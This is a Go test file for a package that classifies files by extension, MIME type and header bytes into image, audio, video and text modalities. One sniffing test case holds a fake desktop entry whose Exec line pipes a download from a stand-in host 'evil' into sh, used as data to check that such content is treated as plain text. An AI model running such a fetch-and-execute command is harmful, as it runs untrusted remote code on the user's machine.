package skills

import "testing"

func TestFileTypes(t *testing.T) {
	for _, tc := range []struct {
		name string
		want Modality
	}{
		{"a.PNG", Image}, {"b.heic", Image}, {"c.aac", Audio}, {"d.weba", Audio}, {"e.m4v", Video},
		{"f.mpeg", Video}, {"g.md", Text}, {"h.json", Text},
	} {
		if got, ok := ModalityOfName(tc.name); !ok || got != tc.want {
			t.Errorf("ModalityOfName(%q) = %q, %v; want %q", tc.name, got, ok, tc.want)
		}
	}
	if _, ok := ModalityOfName("x.exe"); ok {
		t.Error("an .exe should not be known")
	}
	for mt, want := range map[string]string{
		"image/png": ".png", "image/jpeg; q=1": ".jpg", "audio/x-wav": ".wav", "audio/wave": ".wav",
		"audio/webm": ".weba", "video/mp4": ".mp4", "application/json": ".json", "Audio/MPEG": ".mp3",
	} {
		if got := ExtOfMIME(mt); got != want {
			t.Errorf("ExtOfMIME(%q) = %q, want %q", mt, got, want)
		}
	}
	if got := ModalityOfMIME("application/ogg"); got != Audio {
		t.Errorf("application/ogg is %q, want audio", got)
	}
	if got := ModalityOfMIME("application/x-desktop"); got != "" {
		t.Errorf("application/x-desktop is %q, want none", got)
	}
	// Every extension's type maps back to a known extension of the same
	// modality: the table is consistent with itself.
	for _, ft := range fileTypes {
		ext := ExtOfMIME(ft.mime)
		if m, ok := ModalityOfName("x" + ext); !ok || m != ft.modality {
			t.Errorf("%s → %s → %s is %q", ft.ext, ft.mime, ext, m)
		}
	}
}

func TestSniff(t *testing.T) {
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	for _, tc := range []struct {
		name string
		head []byte
		mt   string
		m    Modality
	}{
		{"png", png, "image/png", Image},
		{"wav", []byte("RIFF\x24\x00\x00\x00WAVEfmt "), "audio/wav", Audio},
		{"flac", []byte("fLaC\x00\x00\x00\x22"), "audio/flac", Audio},
		{"mp3 frame", []byte{0xFF, 0xFB, 0x90, 0x64, 0, 0}, "audio/mpeg", Audio},
		{"m4a", []byte("\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00"), "audio/mp4", Audio},
		{"mp4", []byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00"), "video/mp4", Video},
		{"heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"), "image/heic", Image},
		{"json", []byte(`  {"error": "model is loading"}`), "application/json", Text},
		{"desktop file", []byte("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"), "text/plain", Text},
		{"random", []byte{0x00, 0x01, 0x02, 0x03, 0xfe}, "", ""},
	} {
		mt, m := Sniff(tc.head)
		if mt != tc.mt || m != tc.m {
			t.Errorf("%s: Sniff = %q, %q; want %q, %q", tc.name, mt, m, tc.mt, tc.m)
		}
	}
}
